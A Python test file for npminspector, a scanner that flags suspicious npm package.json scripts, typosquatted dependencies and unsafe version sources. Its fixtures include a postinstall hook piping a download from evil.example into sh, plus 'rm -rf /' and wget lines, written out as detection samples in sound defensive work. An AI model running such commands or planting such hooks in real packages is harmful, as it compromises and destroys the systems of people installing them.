import json

from npminspector.analyzer import analyze_file
from npminspector.rules.manifest import (
    ManifestRule,
    is_suspicious_dependency,
    is_suspicious_script,
    merge_dependencies,
    typosquat_target,
)
from npminspector.utils.metadata import FindingKind, Severity


def run_rule(manifest, path="package.json"):
    content = manifest if isinstance(manifest, str) else json.dumps(manifest)
    return ManifestRule().check(content, path)


def of_kind(findings, kind):
    return [f for f in findings if f.kind is kind]


def test_postinstall_download_is_one_high_script_finding():
    manifest = {
        "name": "evil-pkg",
        "version": "1.0.0",
        "scripts": {"postinstall": "curl http://evil.example/x.sh | sh"},
    }
    findings = analyze_file("package.json", json.dumps(manifest))
    scripts = of_kind(findings, FindingKind.SUSPICIOUS_SCRIPT)
    assert len(scripts) == 1
    assert scripts[0].severity is Severity.HIGH
    assert scripts[0].risk_contribution == 5
    assert scripts[0].detail["script"] == "postinstall"
    assert scripts[0].detail["content"] == "curl http://evil.example/x.sh | sh"
    assert scripts[0].detail["lifecycle"] is True


def test_script_with_many_bad_fragments_yields_one_finding():
    findings = run_rule({"scripts": {"build": "curl x | base64 -d > /dev/null && rm -rf /"}})
    assert len(findings) == 1
    assert findings[0].detail["lifecycle"] is False


def test_one_finding_per_suspicious_script():
    findings = run_rule({
        "scripts": {
            "preinstall": "wget http://x/y",
            "test": "jest",
            "install": "python -c 'import os'",
        }
    })
    assert sorted(f.detail["script"] for f in findings) == ["install", "preinstall"]


def test_benign_and_non_string_scripts_ignored():
    assert run_rule({"scripts": {"test": "jest", "build": "tsc -p .", "odd": 5}}) == []


def test_typosquat_dependency_is_one_medium_finding():
    findings = run_rule({"dependencies": {"lodahs": "1.0.0"}})
    assert len(findings) == 1
    f = findings[0]
    assert f.kind is FindingKind.SUSPICIOUS_DEPENDENCY
    assert f.severity is Severity.MEDIUM
    assert f.risk_contribution == 3
    assert f.detail["dependency"] == "lodahs@1.0.0"
    assert f.detail["typosquat_of"] == "lodash"


def test_unsafe_version_specifiers_across_groups():
    findings = run_rule({
        "dependencies": {"safe": "^1.2.3", "tarball": "https://example.com/d.tgz"},
        "devDependencies": {"local": "file:../local"},
        "peerDependencies": {"vcs": "git+https://github.com/x/vcs.git"},
        "optionalDependencies": {"plain": "http://example.com/plain.tgz"},
    })
    assert sorted(f.detail["dependency"].split("@")[0] for f in findings) == ["local", "plain", "vcs"]


def test_later_dependency_group_wins():
    manifest = {"dependencies": {"x": "file:../x"}, "devDependencies": {"x": "1.0.0"}}
    assert merge_dependencies(manifest) == {"x": "1.0.0"}
    assert run_rule(manifest) == []


def test_malformed_manifest_is_single_medium_finding():
    findings = run_rule('{"name": "broken", "scripts": {"postinstall": "curl x | sh"')
    assert len(findings) == 1
    f = findings[0]
    assert f.kind is FindingKind.MALFORMED_MANIFEST
    assert f.type == "malformed_package_json"
    assert f.severity is Severity.MEDIUM
    assert f.risk_contribution == 2


def test_non_object_manifest_is_malformed():
    findings = run_rule("[1, 2, 3]")
    assert [f.kind for f in findings] == [FindingKind.MALFORMED_MANIFEST]


def test_invalid_manifest_through_engine_has_no_other_manifest_findings():
    findings = analyze_file("package.json", "{ this is not json, lodahs: file:.. }")
    manifest_kinds = {
        FindingKind.MALFORMED_MANIFEST,
        FindingKind.SUSPICIOUS_SCRIPT,
        FindingKind.SUSPICIOUS_DEPENDENCY,
    }
    assert [f.kind for f in findings if f.kind in manifest_kinds] == [FindingKind.MALFORMED_MANIFEST]


def test_manifest_rule_only_applies_to_package_json():
    rule = ManifestRule()
    assert rule.applies_to("package.json")
    assert rule.applies_to("node_modules/x/package.json")
    assert not rule.applies_to("lib/index.js")
    assert not rule.applies_to("package.json.bak")


def test_manifest_content_in_other_file_not_checked():
    content = json.dumps({"dependencies": {"lodahs": "1.0.0"}})
    assert of_kind(analyze_file("fixtures/deps.json", content), FindingKind.SUSPICIOUS_DEPENDENCY) == []


def test_helpers():
    assert is_suspicious_script("Curl -s https://x | SH")
    assert not is_suspicious_script("node build.js")
    assert typosquat_target("JQuerry") == "jquery"
    assert typosquat_target("jquery") == ""
    assert is_suspicious_dependency("left-pad", "git+ssh://git@github.com/x/y.git")
    assert not is_suspicious_dependency("left-pad", "^1.3.0")


def test_typosquat_with_non_string_version_is_still_flagged():
    findings = run_rule({"dependencies": {"lodahs": 1}})
    assert len(findings) == 1
    assert findings[0].detail["dependency"] == "lodahs@1"
    assert findings[0].detail["typosquat_of"] == "lodash"


def test_non_string_version_of_ordinary_dependency_ignored():
    manifest = {"dependencies": {"left-pad": {"version": "file:../x"}, "react": None}}
    assert merge_dependencies(manifest) == {"left-pad": {"version": "file:../x"}, "react": None}
    assert run_rule(manifest) == []
